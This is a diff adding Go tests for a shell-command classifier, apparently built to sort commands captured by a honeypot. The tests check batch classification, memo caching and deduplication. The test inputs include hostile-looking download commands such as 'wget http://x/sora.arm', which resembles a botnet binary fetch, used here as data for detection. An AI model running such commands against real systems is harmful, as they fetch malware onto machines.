@@ -154,6 +154,67 @@ func TestClassifierIsConcurrencySafe(t *testing.T) {
 	}
 }
 
+func TestClassifyAllMatchesClassify(t *testing.T) {
+	// Fresh classifier per worker count so the memo starts cold each time.
+	ref := New()
+	texts := []string{
+		`uname -a`,
+		`echo ok`,
+		`curl http://x/a; echo hi; wget http://x/b`,
+		`uname -a`, // duplicate: must hit the intra-batch dedup
+		`systemctl status sshd`,
+		`wget http://x/sora.arm`,
+		`echo ok`,
+		`ls -la; cd /opt; pwd`,
+	}
+	want := make([]string, len(texts))
+	for i, txt := range texts {
+		want[i] = ref.Classify(txt)
+	}
+	for _, workers := range []int{1, 2, 8} {
+		c := New()
+		got := c.ClassifyAll(texts, workers)
+		if len(got) != len(want) {
+			t.Fatalf("workers=%d: %d results, want %d", workers, len(got), len(want))
+		}
+		for i := range want {
+			if got[i] != want[i] {
+				t.Errorf("workers=%d: ClassifyAll[%d] = %q, want %q", workers, i, got[i], want[i])
+			}
+		}
+		// A second batch over the same texts must be served from the memo
+		// with identical results.
+		again := c.ClassifyAll(texts, workers)
+		for i := range want {
+			if again[i] != want[i] {
+				t.Errorf("workers=%d: memoized ClassifyAll[%d] = %q, want %q", workers, i, again[i], want[i])
+			}
+		}
+	}
+}
+
+func TestClassifyAllEmpty(t *testing.T) {
+	c := New()
+	if got := c.ClassifyAll(nil, 4); len(got) != 0 {
+		t.Errorf("ClassifyAll(nil) = %v, want empty", got)
+	}
+}
+
+func TestClassifyMemoConsistentWithBatch(t *testing.T) {
+	// Classify must see batch-populated memo entries and vice versa.
+	c := New()
+	if got := c.Classify(`uname -a`); got != "uname_a" {
+		t.Fatalf("Classify = %q", got)
+	}
+	got := c.ClassifyAll([]string{`uname -a`, `echo ok`}, 4)
+	if got[0] != "uname_a" || got[1] != "echo_ok_txt" {
+		t.Fatalf("ClassifyAll = %v", got)
+	}
+	if got := c.Classify(`echo ok`); got != "echo_ok_txt" {
+		t.Errorf("Classify after batch = %q", got)
+	}
+}
+
 func BenchmarkClassifyScout(b *testing.B) {
 	c := New()
 	text := `echo -e "\x6F\x6B"`
